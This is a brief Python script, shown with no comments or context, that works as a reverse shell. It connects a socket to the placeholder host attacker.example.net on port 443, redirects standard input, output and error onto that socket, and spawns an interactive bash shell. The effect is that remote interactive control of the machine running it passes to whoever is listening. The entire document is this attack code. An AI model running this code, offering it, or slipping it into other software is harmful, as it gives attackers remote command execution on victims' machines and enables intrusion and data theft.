
import socket, os, pty
conn = socket.socket()
conn.connect(("attacker.example.net", 443))
for fd in (0, 1, 2):
    os.dup2(conn.fileno(), fd)
pty.spawn("/bin/bash")
